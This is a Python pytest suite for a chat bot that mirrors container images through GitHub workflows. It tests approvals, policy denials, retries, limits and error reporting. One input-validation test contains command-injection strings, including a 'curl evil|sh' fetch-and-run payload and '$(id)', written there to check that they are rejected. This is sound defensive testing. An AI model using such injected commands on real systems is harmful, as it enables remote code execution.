"""The engine over fakes, from a request to its copy: policy, batches, runs, results, troubles.

test_conversation.py has the rest of what people do in a chat.
"""

import hashlib
import hmac
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest
from fakes import (
    ANA,
    GROUP,
    KEY,
    LI,
    MALLORY,
    NGINX,
    STATIC,
    WEI,
    World,
    digest_of,
    world,
)

from bot.adapters.telegram import ANONYMOUS_ADMIN
from bot.core.batch import batch_of
from bot.core.errors import RefusedError, StaleError, TransientError
from bot.core.ids import ChatId, MessageId, Person, PersonId
from bot.core.image import ImageRef
from bot.core.registry import ImageInfo
from bot.core.transfer import State
from bot.engine.lanes import chat_items
from bot.engine.lanes.lane import TickResult
from bot.engine.ports.repository import WorkflowState


@pytest.fixture
async def w(tmp_path: Path) -> AsyncIterator[World]:
    async with world(tmp_path) as made:
        yield made


async def states(w: World) -> list[State]:
    async with w.store.begin() as unit:
        found = []
        for number in range(1, 20):
            transfer = await unit.transfer(number)  # type: ignore[arg-type]
            if transfer is not None:
                found.append(transfer.state)
        return found


async def test_an_approved_image_goes_from_the_question_to_the_pull_command(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    assert w.repository.content == b"# images\ndocker.io/library/nginx:1.27\n"
    w.copied(NGINX)
    await w.settle(10)
    card, result = w.chat.messages.values()
    assert "looking it up" in card.texts[0]
    digest = digest_of(str(NGINX))[:19]
    assert f"2 platforms, 2.1 MB · <code>{digest}</code> · mirrored, digest verified" in card.text
    assert result.text.startswith("Done, 1 of 1")
    assert "docker pull harbor.example.com/docker.io/library/nginx:1.27" in result.text
    assert (card.reply_to, result.reply_to) == ("telegram:11", "telegram:11")


async def pseudonym(w: World, person: Person) -> str:
    async with w.store.begin() as unit:
        return (await unit.pseudonyms([person.id]))[person.id]


async def test_the_commit_names_the_batch_and_people_by_pseudonyms(w: World) -> None:
    w.upstream(NGINX)
    await w.say(replace(WEI, name="Wei [skip ci]"), "/mirror nginx:1.27")
    await w.settle(8)
    message = w.repository.commits[0][1]
    wei = await pseudonym(w, WEI)
    lines = (
        "Batch: batch1\n"
        "Time: 2026-03-01T12:00:02Z\n"
        f"Image: {NGINX}@{digest_of(str(NGINX))}; asked {wei}; approved rule docker.io/library/**\n"
    )
    seal = hmac.new(KEY, lines.encode(), hashlib.sha256).hexdigest()
    assert message == f"Mirror docker.io/library/nginx:1.27\n\n{lines}Seal: {seal}\n"
    assert "telegram:" not in message
    assert batch_of(message) == "batch1"


async def test_only_an_admin_decides_and_a_second_press_hears_who_did(w: World) -> None:
    w.upstream(STATIC)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(6)
    assert (
        f"2 platforms · <code>{digest_of(str(STATIC))[:19]}</code> · waits for an admin" in w.card
    )
    assert next(iter(w.chat.messages.values())).buttons == (
        ("✅ Approve", "❌ Reject"),
        ("🔎 Digests",),
    )
    for person in (WEI, MALLORY):
        assert "Only an admin can do this." in await w.press(person, "approve:1")
    assert await states(w) == [State.WAITING]
    assert await w.press(ANA, "approve:1") == "#1: 1 image approved."
    assert await w.press(ANA, "reject:1") == "Already approved by Ana."
    await w.settle(8)
    assert "Approved by Ana." in w.card
    assert not next(iter(w.chat.messages.values())).buttons
    wei, ana = await pseudonym(w, WEI), await pseudonym(w, ANA)
    assert f"; asked {wei}; approved {ana}\n" in w.repository.commits[0][1]


async def test_a_command_approves_as_the_button_does(w: World) -> None:
    w.upstream(STATIC)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(5)
    await w.say(WEI, "/approve #1")
    await w.settle(2)
    assert "Only an admin can do this." in w.last
    await w.say(ANA, "/approve #1")
    await w.settle(8)
    assert await states(w) == [State.COPYING]


async def test_a_rejection_says_who_and_why_and_commits_nothing(w: World) -> None:
    w.upstream(STATIC)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(5)
    await w.say(ANA, "/reject #1 use <ours> instead")
    await w.settle(8)
    assert any("rejected by Ana: use &lt;ours&gt; instead" in text for text in w.chat.texts)
    assert any(text.startswith("Not mirrored:") for text in w.chat.texts)
    assert w.repository.commits == []
    assert await w.press(ANA, "approve:1") == "Already rejected by Ana."


async def test_one_missing_image_does_not_hold_up_the_other(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27 nginx:9.99")
    await w.settle(1)
    assert "not found at the source" in w.last
    assert w.repository.commits == []
    await w.settle(6)
    w.copied(NGINX)
    await w.settle(8)
    assert w.last.startswith("Partly done, 1 of 2:")
    assert "Check the name and the tag" in w.last


async def test_a_missing_image_that_looks_like_a_slip_is_followed_by_what_was_meant(
    w: World,
) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx/1.27")
    await w.settle(5)
    assert "Did you mean <code>docker.io/library/nginx:1.27</code>?" in w.last


async def test_two_people_who_ask_for_the_same_share_one_copy_and_both_hear(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.say(LI, "/mirror docker.io/library/nginx:1.27")
    await w.settle(8)
    w.copied(NGINX)
    await w.settle(10)
    assert w.repository.content.count(b"nginx") == 1
    assert len(w.repository.runs) == 1
    results = [m for m in w.chat.messages.values() if m.text.startswith("Done, 1 of 1")]
    assert [m.reply_to for m in results] == ["telegram:11", "telegram:12"]
    wei, li = await pseudonym(w, WEI), await pseudonym(w, LI)
    assert f"; asked {wei}, {li}; approved rule" in w.repository.commits[0][1]


async def test_what_the_target_has_already_is_told_without_a_commit(w: World) -> None:
    w.upstream(NGINX)
    w.registries.target[str(NGINX)] = digest_of(str(NGINX))
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(5)
    assert "was already there, same digest" in w.card
    assert "docker pull" in w.last
    assert w.repository.commits == []


async def test_what_the_list_has_but_the_target_lacks_is_dispatched(w: World) -> None:
    w.upstream(NGINX)
    w.repository.content = b"nginx:1.27\n"
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    assert w.repository.content == b"nginx:1.27\n"
    assert [run.event for run in w.repository.runs] == ["dispatch"]
    w.copied(NGINX)
    await w.settle(8)
    assert w.last.startswith("Done, 1 of 1")


async def test_a_dispatch_whose_run_github_does_not_name_is_found_by_its_title(w: World) -> None:
    w.upstream(NGINX)
    w.repository.content = b"nginx:1.27\n"
    w.repository.dispatches_are_named = False
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(10)
    assert await states(w) == [State.COPYING]
    assert len(w.repository.runs) == 1


async def test_a_restart_at_any_moment_ends_in_one_commit_and_one_answer(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    for _ in range(12):
        w.start()
        await w.settle(1)
    w.copied(NGINX)
    for _ in range(8):
        w.start()
        await w.settle(1)
    assert w.repository.writes == 1
    assert sum(text.startswith("Done") for text in w.chat.texts) == 1


async def test_a_commit_whose_answer_was_lost_is_found_and_not_made_again(w: World) -> None:
    w.upstream(NGINX)
    w.repository.lost["write_list"] = [TransientError("timed out", unclear=True)]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(12)
    assert w.repository.writes == 1
    assert await states(w) == [State.COPYING]


async def test_a_dispatch_whose_answer_was_lost_is_not_sent_again(w: World) -> None:
    w.upstream(NGINX)
    w.repository.content = b"nginx:1.27\n"
    w.repository.lost["dispatch"] = [TransientError("timed out", unclear=True)]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(60)
    assert len(w.repository.runs) == 1
    assert await states(w) == [State.COPYING]


async def test_a_dispatch_that_never_arrived_is_sent_again(w: World) -> None:
    w.upstream(NGINX)
    w.repository.content = b"nginx:1.27\n"
    w.repository.trouble["dispatch"] = [TransientError("timed out", unclear=True)]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(60)
    assert len(w.repository.runs) == 1


async def test_a_conflict_reads_the_list_again_and_keeps_what_others_wrote(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["write_list"] = [StaleError("moved"), StaleError("moved")]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    assert w.repository.writes == 1


async def test_a_list_that_never_stops_changing_is_tried_later(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["write_list"] = [StaleError("moved")] * 10
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(6)
    assert "others keep changing image.list" in w.card
    await w.settle(20)
    assert w.repository.writes == 1


async def test_lines_that_somebody_added_meanwhile_are_dispatched(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["write_list"] = [TransientError("GitHub is in trouble")]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(2)
    w.repository.content += b"docker.io/library/nginx:1.27\n"
    await w.settle(20)
    assert w.repository.writes == 0
    assert [run.event for run in w.repository.runs] == ["dispatch"]


async def test_a_run_that_never_appears_is_dispatched_once_then_given_up(w: World) -> None:
    w.upstream(NGINX)
    w.repository.pushes_start_runs = False
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(60)
    assert w.repository.runs == []
    await w.settle(60)
    assert [run.event for run in w.repository.runs] == ["dispatch"]
    w.copied(NGINX)
    await w.settle(10)
    assert w.last.startswith("Done, 1 of 1")


async def test_no_run_at_all_is_said_to_be_so(w: World) -> None:
    w.upstream(NGINX)
    w.repository.pushes_start_runs = False
    w.repository.dispatches_start_runs = False
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(200)
    assert "GitHub started no run for it" in w.last
    assert "/retry #1" in w.last


@pytest.mark.parametrize(
    ("state", "words"),
    [
        (WorkflowState.MISSING, "the mirror repository has no workflow"),
        (WorkflowState.OFF, "the workflow is disabled"),
    ],
)
async def test_a_workflow_that_cannot_run_is_named_before_anything_is_committed(
    w: World, state: WorkflowState, words: str
) -> None:
    w.upstream(NGINX)
    w.repository.state = state
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    assert words in w.last
    assert w.repository.commits == []


async def test_commits_wait_while_another_workflow_is_installed_and_go_on_after_setup(
    w: World,
) -> None:
    w.upstream(NGINX)
    w.repository.state = WorkflowState.DIFFERS
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(30)
    assert "the maintainer has to run imageto-bot setup" in w.card
    assert w.repository.commits == []
    await w.say(WEI, "/status")
    assert "run imageto-bot setup" in w.last
    w.repository.state = WorkflowState.ACTIVE
    await w.settle(400)
    assert len(w.repository.commits) == 1


async def test_an_admin_is_told_that_another_workflow_is_installed_before_anybody_asks(
    w: World,
) -> None:
    await w.say(ANA, "/status")
    await w.settle(2)
    assert "setup" not in w.last
    w.repository.seen = WorkflowState.DIFFERS
    await w.say(ANA, "/status")
    await w.settle(2)
    words = "Problem now: the workflow in the mirror repository is not the one that I ship"
    assert w.last.count(words) == 1
    await w.say(WEI, "/status")
    await w.settle(2)
    assert words not in w.last


async def test_a_run_that_a_changed_workflow_stopped_is_made_up_for_after_setup(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.repository.state = WorkflowState.DIFFERS
    w.repository.finish("failure")
    await w.settle(30)
    assert "the maintainer has to run imageto-bot setup" in w.card
    assert len(w.repository.runs) == 1
    w.repository.state = WorkflowState.ACTIVE
    await w.settle(400)
    assert [run.event for run in w.repository.runs] == ["push", "dispatch"]
    w.copied(NGINX)
    await w.settle(8)
    assert w.last.startswith("Done, 1 of 1")


async def test_a_workflow_that_differs_again_and_again_is_not_tried_for_ever(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    for _ in range(2):
        w.repository.state = WorkflowState.DIFFERS
        w.repository.finish("failure")
        await w.settle(8)
        w.repository.state = WorkflowState.ACTIVE
        await w.settle(400)
    assert "its run ended (failure) without a result" in w.last
    assert len(w.repository.runs) == 2


async def test_a_write_that_github_refuses_ends_with_its_words(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["write_list"] = [RefusedError("GitHub: protected branch (403)")]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    assert "GitHub refused it: GitHub: protected branch (403)" in w.last


async def test_a_list_that_github_does_not_show_ends_with_its_words(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["read_list"] = [RefusedError("GitHub: no access (403)")]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    assert "GitHub refused it: GitHub: no access (403)" in w.last


async def test_github_in_trouble_is_shown_and_waited_for(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["workflow"] = [TransientError("GitHub is in trouble", retry_after=20)]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(7)
    assert "GitHub is in trouble: tried once, trying again" in w.card
    assert w.repository.commits == []
    await w.settle(25)
    assert len(w.repository.commits) == 1


async def test_trouble_while_following_a_run_loses_nothing(w: World) -> None:
    w.upstream(NGINX)
    w.repository.trouble["run"] = [TransientError("GitHub is in trouble")] * 3
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.copied(NGINX)
    await w.settle(60)
    assert w.last.startswith("Done, 1 of 1")


async def test_a_copy_that_failed_is_told_in_words_and_can_be_tried_again(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.repository.report(NGINX, None, "target: will exceed the configured upper limit of 1 GiB")
    w.repository.finish("failure")
    await w.settle(8)
    assert "the project in our registry is full" in w.last
    assert "别人的请求" in await w.press(LI, "retry:1")
    assert await w.press(WEI, "Try again") == "#1 continues: 1 image."
    await w.settle(12)
    assert [run.event for run in w.repository.runs] == ["push", "dispatch"]
    w.copied(NGINX)
    await w.settle(8)
    assert w.last.startswith("Done, 1 of 1")
    assert sum("░" in text or "▓" in text for text in w.chat.texts) == 2, "a card for each try"
    await w.say(WEI, "/retry #1")
    await w.settle(2)
    assert w.last.startswith("There is nothing in #1 to retry.")


async def test_what_a_run_says_of_a_tag_with_capitals_is_read(w: World) -> None:
    candidate = ImageRef.parse("docker.io/library/nginx:1.28-RC1")
    w.upstream(candidate)
    await w.say(WEI, "/mirror nginx:1.28-RC1")
    await w.settle(8)
    w.repository.report(candidate, None, "target: will exceed the configured upper limit of 1 GiB")
    await w.settle(8)
    assert "the project in our registry is full" in w.last


async def test_a_run_that_said_nothing_is_believed_where_the_target_has_the_image(
    w: World,
) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.registries.target[str(NGINX)] = digest_of(str(NGINX))
    w.repository.finish("cancelled")
    await w.settle(8)
    assert w.last.startswith("Done, 1 of 1")


@pytest.mark.parametrize(
    ("conclusion", "words"),
    [
        ("cancelled", "its run was cancelled"),
        ("failure", "its run ended (failure) without a result"),
    ],
)
async def test_a_run_that_ended_without_a_word_is_a_failure(
    w: World, conclusion: str, words: str
) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.registries.target[str(NGINX)] = TransientError("the target is down")
    w.repository.finish(conclusion)
    await w.settle(30)
    assert words in w.last


async def test_another_digest_at_the_target_is_no_success(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.copied(NGINX)
    w.registries.target[str(NGINX)] = digest_of("another")
    await w.settle(40)
    assert "our registry holds another digest" in w.last
    assert not any(text.startswith("Done") for text in w.chat.texts)


async def test_nothing_at_the_target_is_no_success_and_is_called_so(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.copied(NGINX)
    del w.registries.target[str(NGINX)]
    await w.settle(40)
    assert "its run reports success, but our registry does not have it" in w.last


async def test_a_run_that_did_well_without_our_image_is_followed_by_one_that_names_it(
    w: World,
) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.repository.finish("success")
    await w.settle(20)
    assert [run.event for run in w.repository.runs] == ["push", "dispatch"]
    w.repository.finish("success")
    await w.settle(10)
    assert "its run ended (success) without a result" in w.last


async def test_a_run_that_is_gone_has_copied_what_the_target_has(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.registries.target[str(NGINX)] = digest_of(str(NGINX))
    w.repository.trouble["run"] = [RefusedError("GitHub: Not Found (404)")]
    await w.settle(8)
    assert w.last.startswith("Done, 1 of 1")


@pytest.mark.parametrize("trouble", [RefusedError("no access"), TransientError("out of reach")])
async def test_where_the_target_cannot_be_read_the_run_is_quoted(
    w: World, trouble: Exception
) -> None:
    w.upstream(NGINX)
    w.registries.target[str(NGINX)] = RefusedError("no access")
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(8)
    w.copied(NGINX)
    w.registries.target[str(NGINX)] = trouble
    await w.settle(60)
    assert "according to its run (I cannot read our registry)" in w.card


async def test_a_source_in_trouble_is_waited_for(w: World) -> None:
    w.registries.source[str(NGINX)] = TransientError("docker.io did not answer", retry_after=30)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(6)
    assert "docker.io did not answer: tried once, trying again" in w.card
    w.upstream(NGINX)
    await w.settle(20)
    assert await states(w) == [State.CHECKING]
    await w.settle(20)
    assert await states(w) == [State.COPYING]


async def test_a_source_in_trouble_for_a_day_is_given_up(w: World) -> None:
    w.registries.source[str(NGINX)] = TransientError("docker.io did not answer")
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(3)
    w.clock.pass_time(24 * 3600)
    await w.settle(5)
    assert "the network failed: docker.io did not answer" in w.last


async def test_a_source_that_refuses_ends_with_its_words(w: World) -> None:
    w.registries.source[str(NGINX)] = RefusedError("docker.io redirects to a private address")
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(5)
    assert "the source cannot be used: docker.io redirects to a private address" in w.last


async def test_a_shape_that_cannot_be_had_does_not_stop_the_question(w: World) -> None:
    w.upstream(STATIC)
    w.registries.shapes[str(STATIC)] = TransientError("gcr.io did not answer")
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(5)
    assert "· waits for an admin" in w.card
    w.registries.shapes[str(STATIC)] = ImageInfo((), 999)


async def test_a_question_that_nobody_answers_expires(w: World) -> None:
    w.upstream(STATIC)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(5)
    w.clock.pass_time(72 * 3600)
    await w.settle(5)
    assert "nobody decided in time" in w.last
    assert (await w.press(ANA, "approve:1")).startswith("#1 has expired.\n/retry #1")


async def test_a_denied_image_is_answered_with_the_reason_and_nothing_is_stored(w: World) -> None:
    await w.say(WEI, "/mirror evil/miner quay.io/x/y")
    await w.settle(2)
    assert "not allowed by the policy: known to be harmful" in w.last
    assert "quay.io is not an allowed registry" in w.last
    assert await states(w) == []
    assert w.registries.looks == 0


async def test_a_denied_image_among_others_is_rejected_and_the_rest_goes_on(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror evil/miner:1 nginx:1.27")
    await w.settle(8)
    assert sorted(await states(w)) == [State.COPYING, State.REJECTED]
    w.copied(NGINX)
    await w.settle(8)
    assert w.last.startswith("Partly done, 1 of 2:")


async def test_a_policy_that_changed_denies_what_was_not_checked_yet(w: World) -> None:
    w.registries.source["docker.io/some/thing:1"] = TransientError("slow")
    await w.say(WEI, "/mirror some/thing:1")
    await w.settle(2)
    w.policy = replace(w.policy, registries=frozenset({"gcr.io"}))
    w.start()
    await w.settle(10)
    assert await states(w) == [State.REJECTED]


@pytest.mark.parametrize(
    "text",
    [
        "/mirror nginx;curl evil|sh",
        "/mirror $(id)",
        "/mirror " + "😀" * 1000,
        "/mirror",
        "/status NGINX",
        "/retry",
        "/retry x",
        "/cancel 1 2",
    ],
)
async def test_bad_input_gets_words_and_leaves_nothing_behind(w: World, text: str) -> None:
    await w.say(WEI, text)
    await w.settle(3)
    assert len(w.chat.messages) == 1
    assert len(w.last) < 4096
    assert "/" in w.last
    assert await states(w) == []
    assert w.repository.writes == 0


async def test_limits_are_said_with_their_number(w: World) -> None:
    many = " ".join(f"nginx:{n}" for n in range(7))
    await w.say(WEI, f"/mirror {many}")
    await w.settle(2)
    assert "At most 6 images in one message" in await w.press(WEI, "all:1")
    for number in range(3):
        images = [f"some/thing{number}:{n}" for n in range(3)]
        w.upstream(*map(ImageRef.parse, images))
        await w.say(WEI, "/mirror " + " ".join(images))
    await w.settle(2)
    assert any("You can have 8 images open at a time" in text for text in w.chat.texts)


async def test_the_daily_limit_counts_what_is_over_too(w: World) -> None:
    for start in range(0, 12, 3):
        names = " ".join(f"nginx:{n}" for n in range(start, start + 3))
        await w.say(WEI, f"/mirror {names}")
        await w.settle(5)
    await w.say(WEI, "/mirror nginx:20 nginx:21 nginx:22")
    await w.settle(30)
    assert any("You can ask for 12 images in 24 hours" in text for text in w.chat.texts)
    w.clock.pass_time(25 * 3600)
    await w.say(WEI, "/mirror nginx:20 nginx:21 nginx:22")
    await w.settle(5)
    assert any(text.startswith("None of the 3 images was mirrored:") for text in w.chat.texts)


async def test_retries_count_in_the_daily_limit(w: World) -> None:
    await w.say(WEI, "/mirror nginx:1 nginx:2 nginx:3")
    await w.settle(5)
    answers = []
    for _ in range(6):
        answers.append(await w.press(WEI, "retry:1"))
        await w.settle(70)
    assert ["12 images in 24 hours" in answer for answer in answers] == [False] * 3 + [True] * 3
    w.clock.pass_time(25 * 3600)
    assert "12 images in 24 hours" not in await w.press(WEI, "retry:1")


async def test_the_daily_limit_says_when_it_ends(w: World) -> None:
    for start in range(0, 12, 3):  # at 12:00, 13:00, 14:00 and 15:00 or a little later
        await w.say(WEI, "/mirror " + " ".join(f"nginx:{n}" for n in range(start, start + 3)))
        await w.settle(5)
        w.clock.pass_time(3600)
    await w.say(WEI, "/mirror nginx:20 nginx:21")
    await w.settle(5)
    said = next(text for text in w.chat.texts if "12 images in 24 hours" in text)
    assert "19 h" in said or "20 h" in said, said
    assert "2026-03-02 12:0" in said, said


async def test_a_chat_that_is_not_served_hears_so_once_an_hour(w: World) -> None:
    for _ in range(3):
        await w.say(WEI, "/mirror nginx", chat=ChatId("telegram:-5"))
        await w.settle(5)
    assert len(w.chat.messages) == 1
    assert "<code>-5</code>" in w.last
    w.clock.pass_time(3600)
    await w.say(WEI, "/whoami", chat=ChatId("telegram:-5"))
    await w.settle(2)
    assert len(w.chat.messages) == 2


async def test_an_anonymous_admin_is_nobody(w: World) -> None:
    nobody = Person(ANONYMOUS_ADMIN, "Group")
    await w.say(nobody, "/approve #1", faceless=True)
    await w.settle(2)
    assert "I cannot see who you are" in w.last


async def test_an_admin_may_ask_in_private_and_a_stranger_may_not(w: World) -> None:
    w.upstream(NGINX)
    await w.say(ANA, "/whoami", chat=ChatId(ANA.id))
    await w.settle(2)
    assert "Your id: <code>1003</code> (admin)" in w.last
    stranger = Person(PersonId("telegram:77"), "Stranger")
    await w.say(stranger, "/help", chat=ChatId("telegram:77"))
    await w.settle(2)
    assert "You are not on my list yet" in w.last


async def test_help_shows_each_person_what_they_may_do(w: World) -> None:
    await w.say(WEI, "/help")
    await w.say(ANA, "/start")
    await w.settle(3)
    for_member, for_admin = w.chat.texts
    assert "/mirror IMAGE…" in for_member
    assert "/approve" not in for_member
    assert "/reject #41 [reason]" in for_admin


async def test_cancel_stops_what_is_not_under_way(w: World) -> None:
    w.upstream(STATIC)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(5)
    await w.say(LI, "/cancel #1")
    await w.settle(2)
    assert "somebody else" in w.last
    await w.say(WEI, "/cancel #1")
    await w.settle(8)
    assert await states(w) == [State.CANCELLED]
    assert w.last.startswith("#1: 1 image cancelled.")
    assert w.card.endswith("Cancelled.")
    assert (await w.press(ANA, "approve:1")).startswith("#1 was cancelled.\n/retry #1")
    await w.say(WEI, "/cancel #1")
    await w.settle(2)
    assert "It is too late to cancel #1" in w.last


async def test_cancel_leaves_what_another_person_waits_for(w: World) -> None:
    w.upstream(STATIC)
    await w.say(WEI, f"/mirror {STATIC}")
    await w.say(LI, f"/mirror {STATIC}")
    await w.settle(6)
    await w.say(WEI, "/cancel #1")
    await w.settle(3)
    assert await states(w) == [State.WAITING]
    await w.press(ANA, "approve:2")
    await w.settle(8)
    w.copied(STATIC)
    await w.settle(8)
    assert sum(text.startswith("Done") for text in w.chat.texts) == 1


async def test_cancel_says_what_is_too_late(w: World) -> None:
    w.upstream(NGINX, STATIC)
    await w.say(WEI, f"/mirror nginx:1.27 {STATIC}")
    await w.settle(8)
    await w.say(WEI, "/cancel #1")
    await w.settle(3)
    assert "1 image cancelled. 1 more is being copied already." in w.last
    w.copied(NGINX)
    await w.settle(8)
    assert w.last.startswith("Partly done, 1 of 2:")


async def test_status_shows_what_is_mine_and_one_request_and_one_image(w: World) -> None:
    w.upstream(NGINX, STATIC)
    await w.say(WEI, "/mirror nginx:1.27")
    await w.say(LI, f"/mirror {STATIC}")
    await w.settle(8)
    await w.say(WEI, "/status")
    await w.settle(2)
    assert "#1" in w.last
    assert "#2" not in w.last
    w.copied(NGINX)
    await w.settle(8)
    for text in ("/status #1", "/status nginx:1.27"):
        await w.say(WEI, text)
        await w.settle(2)
        assert "The run on GitHub" in w.last
        assert "docker pull harbor.example.com/docker.io/library/nginx:1.27" in w.last
    await w.say(WEI, "/status redis:7")
    await w.say(WEI, "/status #99")
    await w.settle(2)
    assert "I know of no request for" in w.chat.texts[-2]
    assert "There is no request #99" in w.last


async def test_a_request_of_another_chat_is_shown_to_admins_only(w: World) -> None:
    w.upstream(NGINX)
    await w.say(ANA, "/mirror nginx:1.27", chat=ChatId(ANA.id))
    await w.say(WEI, "/status #1")
    await w.settle(2)
    assert any("There is no request #1 here." in text for text in w.chat.texts)
    await w.say(ANA, "/status #1")
    await w.settle(2)
    assert "Asked for:" in w.last


async def test_a_repeated_update_changes_nothing(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    w.last_update -= 1
    await w.say(WEI, "/mirror redis:7")
    assert await w.press(ANA, "approve:1") != ""
    w.last_update -= 1
    assert await w.press(ANA, "approve:1") == ""
    assert len(await states(w)) == 1


async def test_updates_that_are_numbered_anew_after_a_quiet_week_are_not_lost(w: World) -> None:
    w.upstream(NGINX, STATIC)
    w.last_update = 700_000_000
    await w.say(WEI, f"/mirror {STATIC}")
    await w.settle(5)
    w.last_update = 12_345
    await w.say(WEI, "/mirror nginx:1.27")
    assert await w.press(ANA, "approve:1") == "#1: 1 image approved."
    assert len(await states(w)) == 2
    w.last_update -= 1
    assert await w.press(ANA, "approve:1") == ""


async def test_chatter_and_other_bots_commands_start_nothing(w: World) -> None:
    for text in ("hello", "/mirror@other_bot nginx", "/unknown", "see /mirror nginx"):
        await w.say(WEI, text)
    await w.intake.pass_over(10_000)
    await w.intake.pass_over(5)
    await w.settle(2)
    assert w.chat.messages == {}


async def test_a_button_of_another_time_is_answered(w: World) -> None:
    assert "This button is no longer in use." in await w.press(ANA, "dance:1")
    assert "This button is no longer in use." in await w.press(ANA, "approve:9")


async def test_a_decision_on_what_needs_none_says_so(w: World) -> None:
    await w.say(WEI, "/mirror nginx:9.99")
    await w.settle(4)
    assert await w.press(ANA, "approve:1") == "#1 needs no decision."


async def test_a_chat_that_asks_for_silence_gets_it_and_hears_all_later(w: World) -> None:
    w.upstream(NGINX)
    w.chat.trouble = [TransientError("Telegram asks to wait", retry_after=20)]
    await w.say(WEI, "/mirror nginx:1.27")
    await w.say(LI, "/help")
    await w.settle(15)
    assert w.chat.messages == {}
    await w.settle(20)
    assert len(w.chat.messages) == 2


async def test_a_note_that_failed_is_said_later(w: World) -> None:
    w.chat.trouble = [TransientError("Telegram is out of reach")]
    await w.say(WEI, "/help")
    await w.settle(1)
    assert w.chat.messages == {}
    await w.settle(10)
    assert len(w.chat.messages) == 1


async def test_the_card_of_what_is_over_already_goes_before_its_result(w: World) -> None:
    w.chat.trouble = [TransientError("Telegram is out of reach")]
    await w.say(WEI, "/mirror nginx:9.99")
    await w.settle(15)
    card, result = w.chat.texts
    assert card.startswith("<b>#1</b> for Wei")
    assert result.startswith("Not mirrored")


async def test_a_result_that_failed_is_told_later_and_once(w: World) -> None:
    await w.say(WEI, "/mirror nginx:9.99")
    await w.settle(0)
    w.chat.trouble = [TransientError("Telegram is out of reach")]
    await w.settle(30)
    assert sum(text.startswith("Not mirrored") for text in w.chat.texts) == 1


async def test_a_result_put_off_stays_so_though_the_card_is_edited_meanwhile(w: World) -> None:
    await w.say(WEI, "/mirror nginx:9.99")
    await w.settle(0)
    sends = 0

    async def failing(*_: object, **__: object) -> MessageId:
        nonlocal sends
        sends += 1
        raise TransientError("Telegram is out of reach")

    w.chat.send = failing  # type: ignore[method-assign]
    w.clock.pass_time(3)
    await w.settle(1)
    assert "not found" in w.last
    assert sends == 1


async def test_a_chat_that_shut_the_door_does_not_stop_the_others(w: World) -> None:
    w.upstream(NGINX)
    w.chat.trouble = [RefusedError("Telegram: bot was kicked")] * 3
    await w.say(WEI, "/mirror nginx:1.27")
    await w.say(LI, "/help")
    await w.settle(30)
    assert w.repository.writes == 1


async def test_cards_are_edited_at_most_once_in_three_seconds(w: World) -> None:
    w.upstream(NGINX)
    await w.say(WEI, "/mirror nginx:1.27")
    for _ in range(30):
        await w.reconciler.tick()
        w.clock.pass_time(0.2)
    card = next(iter(w.chat.messages.values()))
    assert len(card.texts) <= 3


async def test_approvals_that_come_together_share_a_commit_and_later_ones_wait(w: World) -> None:
    w.upstream(NGINX, ImageRef.parse("redis:7"), ImageRef.parse("busybox"))
    await w.say(WEI, "/mirror nginx:1.27")
    await w.settle(1)
    await w.say(LI, "/mirror redis:7")
    await w.settle(5)
    assert w.repository.writes == 1
